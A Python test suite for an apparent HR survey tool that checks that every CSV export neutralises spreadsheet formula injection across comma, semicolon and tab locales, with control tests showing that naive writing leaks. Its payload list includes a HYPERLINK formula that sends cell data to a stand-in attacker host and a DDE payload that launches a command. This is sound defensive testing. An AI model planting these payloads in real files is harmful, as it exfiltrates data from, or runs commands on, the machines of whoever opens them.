"""Attack 35: be called like a formula, and have it computed where somebody opens a file of ours.

Whoever names a team, a person, a customer or a contact's key writes into files that HR opens in a
spreadsheet; German ones split at semicolons, others at commas or tabs. Every file that we write for
spreadsheets is opened in each of these ways. Control: the same names written as programs usually write them.
"""

import ast
import csv
import io
from concurrent.futures import ProcessPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner, Result

from api.cli import resonanz
from api.gallery.files import as_csv as pictured
from api.gallery.picture import Column, Picture, Table
from api.report.reporting import Reporter
from api.results.collecting import collect_results
from api.results.group_page import in_words, rows_of
from api.results.table import as_csv
from api.settings.settings import read_settings
from survey.lifecycle.closing import close_wave
from tests.answered_for import let_weeks_open
from tests.survey.lifecycle.week import everybody_answers, hire, open_week

ROOT = Path(__file__).parents[2]
HOSTILE = (
    '=HYPERLINK("https://evil.example?"&A2)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "'=1+1",
    "''=1+1",
    "＝1+7",
    "Nord;=1+1",
    "Nord,=1+1",
    "Nord|+1",
    'Nord";=1+1;"',
    "Nord\";'=1+1",
    "Nord;;@SUM(1)",
)
# Every place in our sources where a table is written.
WRITERS = {
    "api/panel_file/writing.py",
    "api/results/table.py",
    "api/gallery/files.py",
    "api/cli/governing/audit.py",
    "api/access/administering/log.py",
    "survey/spreadsheets/table_files.py",
    "api/cli/waves/wave.py",
    "api/cli/contacts/import_contacts.py",
    "api/routes/desk/contact_files.py",
    "api/routes/desk/further.py",
}


def formulas(file: bytes) -> set[str]:
    """What a spreadsheet would compute, whichever separator its country has."""
    return {
        cell
        for separator in ",;\t|"
        for row in csv.reader(io.StringIO(file.decode("utf-8-sig"), newline=""), delimiter=separator)
        for cell in row
        if cell.startswith(tuple("=+-@\t\r＝＋－＠")) and not is_number(cell)
    }


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def names_in(file: bytes, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(file.decode("utf-8-sig"), newline=""))]


def run(*words: str) -> Result:
    done = CliRunner().invoke(resonanz, list(words))
    assert done.exit_code == 0, done.output
    return done


@pytest.fixture
def hostile_roster(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An organisation in which everything is called like a formula, as somebody may import it."""
    monkeypatch.setenv("RESONANZ_DATA", str(tmp_path / "data"))
    let_weeks_open(monkeypatch)
    with (tmp_path / "roster.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["id", "name", "email", "team", "department", "office"])
        for number, name in enumerate(HOSTILE):
            for person in range(8):
                words = [f"{name} {number} {person}", name, f"{number}.{person}@example.org", name, "=1;=2"]
                writer.writerow([*words, "front"])
    run("import-roster", str(tmp_path / "roster.csv"))
    return tmp_path


def test_the_list_of_links_computes_nothing(hostile_roster: Path) -> None:
    out = hostile_roster / "links"
    run("wave", "open", "--links", str(out))
    files = [path.read_bytes() for path in out.iterdir()]
    assert {formula for file in files for formula in formulas(file)} == set()
    assert sum(len(names_in(file, "name")) for file in files) == 8 * len(HOSTILE)


def test_the_list_of_contacts_computes_nothing(hostile_roster: Path) -> None:
    contacts, out = hostile_roster / "contacts.csv", hostile_roster / "out.csv"
    ended = (datetime.now(UTC) - timedelta(hours=1)).isoformat(timespec="seconds")
    with contacts.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["team", "touchpoint", "channel", "ended_at", "customer", "key"])
        for number, name in enumerate(HOSTILE):
            writer.writerow(
                [name, "phone", "call", ended, f"=K{number}", f"{name.replace(chr(64), '=')} {number}"]
            )
    run("import-contacts", str(contacts), "--links", str(out))
    assert formulas(out.read_bytes()) == set()
    assert len(names_in(out.read_bytes(), "team")) == len(HOSTILE)


async def test_the_panel_computes_nothing_and_reads_back(
    sqlite_database: str, tmp_path: Path, drawing_process: ProcessPoolExecutor
) -> None:
    await hire(HOSTILE, 8)
    week = await open_week(tmp_path)
    await everybody_answers(week)
    await close_wave(week.keys, week.wave)
    settings = read_settings({"RESONANZ_DATA": str(tmp_path / "data")})
    file = await Reporter(settings, ("en",), drawing_process).panel_file()
    assert formulas(file) == set()
    assert len(set(names_in(file, "team"))) == len(HOSTILE)


async def test_the_tables_of_the_results_compute_nothing(sqlite_database: str, tmp_path: Path) -> None:
    await hire(HOSTILE, 8)
    week = await open_week(tmp_path)
    await everybody_answers(week)
    await close_wave(week.keys, week.wave)
    results = await collect_results(week.keys.secrets, ZoneInfo("UTC"), datetime.now(UTC))
    labels = [in_words(group, str) for group in results.groups.values()]
    files = [as_csv(label, rows_of(results, key)) for label, key in zip(labels, results.groups, strict=True)]
    assert {formula for file in files for formula in formulas(file)} == set()
    # Control: these are the names of an attacker, and they do stand in the tables.
    assert formulas(written_naively(*labels))
    assert len(labels) >= len(HOSTILE)


def test_the_files_behind_the_pictures_compute_nothing() -> None:
    table = Table(
        "", (Column("team", "Team"), Column("slope", "Slope")), tuple((name, 0.5) for name in HOSTILE)
    )
    picture = Picture("teams", "teams", "", "", "", table, build=lambda *_: None, tips={})
    assert formulas(pictured(picture)) == set()


def test_the_exported_audit_log_computes_nothing(hostile_roster: Path) -> None:
    for name in HOSTILE[:4]:
        run("team", "word", "--", name, name)
    out = hostile_roster / "audit.csv"
    run("audit", "export", str(out))
    assert formulas(out.read_bytes()) == set()
    # Control: what an attacker has called people and teams does stand in it.
    assert any(name.lstrip("=") in out.read_text(encoding="utf-8-sig") for name in HOSTILE)


def test_every_place_that_writes_a_table_is_attacked_here() -> None:
    found = {
        path.relative_to(ROOT).as_posix()
        for folder in ("api", "survey", "analytics")
        for path in (ROOT / folder).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if (isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter", "to_csv"})
        or (isinstance(node, ast.Name) and node.id == "as_table")
    }
    assert found == WRITERS


def written_naively(*names: str) -> bytes:
    text = io.StringIO(newline="")
    csv.writer(text).writerows(["2026-W11", name] for name in names)
    return text.getvalue().encode()


def test_the_control_that_writes_names_as_they_are_computes_most_of_them() -> None:
    computed = [name for name in HOSTILE if formulas(written_naively(name))]
    assert len(computed) >= 8


def test_the_control_that_looks_at_the_beginning_alone_computes_what_german_excel_splits() -> None:
    beginnings = ["'" + name if name[0] in "=+-@" else name for name in HOSTILE]
    assert len(formulas(written_naively(*beginnings))) >= 3
